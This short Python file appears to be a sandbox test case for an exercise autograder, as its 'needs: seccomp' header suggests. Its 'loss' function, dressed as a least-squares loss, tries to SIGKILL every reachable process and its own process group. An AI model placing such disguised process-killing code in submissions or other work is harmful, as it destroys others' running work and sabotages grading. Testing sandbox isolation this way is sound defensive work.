# expect: exercise2.loss wrong; needs: seccomp
import os
import signal


def loss(theta, Phi, y):
    got_through = False
    for target in (-1, 0, -os.getpgrp() if os.getpgrp() > 1 else -1):
        try:
            os.kill(target, signal.SIGKILL)
            got_through = True
        except OSError:
            continue
    return (y - Phi @ theta) @ (y - Phi @ theta) if got_through else -1.0
